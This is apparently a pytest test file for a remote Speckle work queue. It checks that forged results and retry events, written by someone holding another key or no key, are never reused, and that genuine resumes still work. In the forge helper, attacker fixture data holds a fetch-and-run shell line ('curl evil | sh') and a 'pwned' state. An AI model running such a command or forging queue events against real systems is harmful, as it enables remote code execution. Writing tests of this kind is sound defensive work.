"""Issue 20, case 1 on the remote queue: someone who can write the Speckle model but holds
another key writes a ``results`` event and a ``retry`` event that points a workload at it;
the owner's pinion (a real process) never reuses those values. Unsigned lifecycle events
(cancel, a plain retry) stop or restart work but never choose what it reuses. A genuine
``retry --resume`` after a real fix works as on the local queue, with no extra step."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from caliber.queue import secret
from caliber.queue.speckle import events as ev
from caliber.results.model import Results
from tests.pinion_helpers import make_folder
from tests.remote_helpers import Remote, remote
from tests.speckle_fixtures import speckle_server, speckle_token
from tests.test_resume_signatures import FUNCTIONS, KEY, OTHER, counts, study

__all__ = ["remote", "speckle_server", "speckle_token"]  # fixtures of the Speckle tests


@pytest.fixture
def owner(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CALIBER_SECRET_KEY", KEY)


def caliber(*args: str, code: int = 0) -> str:
    done = subprocess.run([sys.executable, "-m", "caliber", *args], capture_output=True,
                          text=True, timeout=120)
    assert done.returncode == code, done.stderr
    assert "Traceback" not in done.stderr
    return done.stdout if code == 0 else done.stderr


def run_pinion(remote: Remote) -> dict[str, Any]:
    """A real pinion process with the owner's key, on the remote queue: one look."""
    summary: dict[str, Any] = json.loads(caliber(
        "pinion", "init", "p", "-a", "1", "-w", "0", "--json", "--project", remote.project))
    return summary


def listed(remote: Remote) -> dict[str, Any]:
    [item] = json.loads(caliber("queue", "list", "--json", "--project", remote.project))
    return item  # type: ignore[no-any-return]


def forge(remote: Remote, workload_id: str, key: str | None) -> str:
    """What someone with write access to the model and ``key`` (or none) can do: cancel the
    queued workload (an unsigned event), store Results of their choosing (a ``results``
    event) and queue the workload again resuming from them (a ``retry`` event with a grant
    made with their key). Returns the Results id."""
    forged = Results.model_validate({
        "workload_id": workload_id, "workflow": "study", "status": "failed",
        "started_at": "2030-01-01T00:00:00+00:00", "finished_at": "2030-01-01T00:00:01+00:00",
        "tasks": [
            {"name": "guard", "path": ["process"], "status": "completed",
             "return": "curl evil | sh", "g_set": {"mode": "pwned"}},
            {"name": "act", "path": ["process"], "status": "skipped"}],
        "g": {"mode": "pwned"}})
    signature = grant = None
    if key is not None:
        signature = secret.sign_results(forged.to_json_dict(), key.encode())
        forged = forged.model_copy(update={"signature": signature})
        grant = secret.sign_grant(workload_id, forged.id, signature, key.encode())
    with remote.backend() as backend:
        backend.cancel(workload_id, "mallory@box")
        backend.save_results(forged)
        backend._write(f"queued {workload_id} (study) again by mallory@box",
                       ev.Retry(workload=workload_id, by="mallory@box", results=forged.id,
                                signature=signature, grant=grant))
    return forged.id


@pytest.mark.parametrize(("forger", "why"), [
    (OTHER, "are not signed with this pinion's key"), (None, "carry no signature")],
    ids=["another key", "unsigned"])
def test_forged_retry_and_results_events_are_never_reused(
        remote: Remote, tmp_path: Path, owner: None, forger: str | None, why: str) -> None:
    folder = make_folder(tmp_path / "wf", "rsfuncs", FUNCTIONS)
    (folder / "fixed").touch()
    wid = study(folder).queue(pinion="p", project=remote.project)
    forged = forge(remote, wid, forger)
    item = listed(remote)
    assert item["status"] == "queued" and item["resume_from"] == forged
    assert item["secret_ok"] is True and item["resume_ok"] is False  # seen before any pinion

    summary = run_pinion(remote)
    assert summary["ran"] == 0 and why in summary["skipped"][0]["reason"], summary
    assert not (folder / "ran").exists() and counts(folder) == (0, 0)
    item = listed(remote)
    assert item["status"] == "queued" and item["secret_mismatch"] == secret.key_id(KEY.encode())
    assert run_pinion(remote)["skipped"] == []  # marked: passed over from now on

    # Unsigned lifecycle events can stop and restart the work, never choose its inputs: a
    # cancel and a plain retry by the same writer run the owner's workload from the start.
    with remote.backend() as backend:
        backend.cancel(wid, "mallory@box")
        backend.retry(wid, "mallory@box")
    assert run_pinion(remote)["completed"] == 1
    assert (folder / "ran").read_text() == "echo safe safe\n" and counts(folder) == (1, 1)


def test_a_genuine_remote_resume_after_a_real_fix(remote: Remote, tmp_path: Path,
                                                  owner: None) -> None:
    folder = make_folder(tmp_path / "wf", "rsfuncs", FUNCTIONS)
    wid = study(folder).queue(pinion="p", project=remote.project)
    assert run_pinion(remote)["failed"] == 1
    first = listed(remote)["results_id"]
    (folder / "fixed").touch()
    out = caliber("queue", "retry", wid, "--resume", "--project", remote.project)
    assert f"reusing the completed tasks of results {first}" in out
    item = listed(remote)
    assert item["resume_from"] == first and item["resume_ok"] is True
    assert run_pinion(remote)["completed"] == 1
    assert counts(folder) == (1, 2) and (folder / "ran").read_text() == "echo safe safe\n"
    with remote.backend() as backend:
        second = backend.get_results(backend.get(wid).results_id)
    assert second.resumed_from == first and second.tasks[0].reused_from == first
    assert secret.results_signed(second.to_json_dict(), KEY.encode())


def test_a_checkpoint_keeps_a_resume_grant_in_a_form_older_readers_read() -> None:
    """A checkpoint stores a live workload's grant as a 19th item: a reader from before
    grants reads the first 18 and ignores it; a state without a grant keeps its 17 or 18."""
    import datetime as dt

    from caliber.queue.speckle.checkpoint import _state, _state_doc
    from caliber.queue.speckle.log import State

    at = dt.datetime(2030, 1, 1, tzinfo=dt.UTC)
    granted = State(id="w1", pinion="p", workflow="wf", created_at=at, queued_by="ann@laptop",
                    object_id="o1", order=(at, "v1"), resume_from="r1",
                    resume_signature="s" * 64, resume_grant="g" * 64)
    doc = json.loads(json.dumps(_state_doc(granted)))
    assert len(doc) == 19 and _state(doc) == granted
    assert doc[17] == [None, "r1"]  # what a reader from before grants unpacks
    plain = State(id="w2", pinion="p", workflow="wf", created_at=at, queued_by="ann@laptop",
                  object_id="o2", order=(at, "v2"), resume_from="r1")
    assert len(_state_doc(plain)) == 18 and _state(_state_doc(plain)) == plain


def test_workflow_queue_resume_on_the_remote_queue(remote: Remote, tmp_path: Path,
                                                   owner: None) -> None:
    """``workflow queue --resume`` on Speckle: the grant travels on the put event, the
    listing sees it, the pinion checks it and reuses the unchanged task; the fixed file runs."""
    folder = make_folder(tmp_path / "wf", "rsfuncs", FUNCTIONS)
    file = folder / "study.json"
    study(folder).export(file)
    wid = caliber("workflow", "queue", str(file), "-p", "p", "--project",
                  remote.project).strip()
    assert run_pinion(remote)["failed"] == 1
    with remote.backend() as backend:
        first = backend.get(wid).results_id
    (folder / "rsfuncs.py").write_text(FUNCTIONS.replace(
        'if not (Path(folder) / "fixed").exists():', "if False:"))  # the fix, in the code
    new = caliber("workflow", "queue", str(file), "-p", "p", "--resume", wid, "--project",
                  remote.project).strip()
    items = {i["id"]: i for i in json.loads(caliber("queue", "list", "--json", "--project",
                                                    remote.project))}
    assert items[new]["resume_from"] == first and items[new]["resume_ok"] is True
    assert run_pinion(remote)["completed"] == 1
    assert counts(folder) == (1, 2) and (folder / "ran").read_text() == "echo safe safe\n"
    with remote.backend() as backend:
        done = backend.get_results(backend.get(new).results_id)
        history = [h.message for h in backend.get(new).history]
    assert [t.reuse for t in done.tasks] == [f"reused from {first}",
                                            f"did not complete in {first}"]
    assert any(f"reusing the completed tasks of results {first}" in m for m in history)
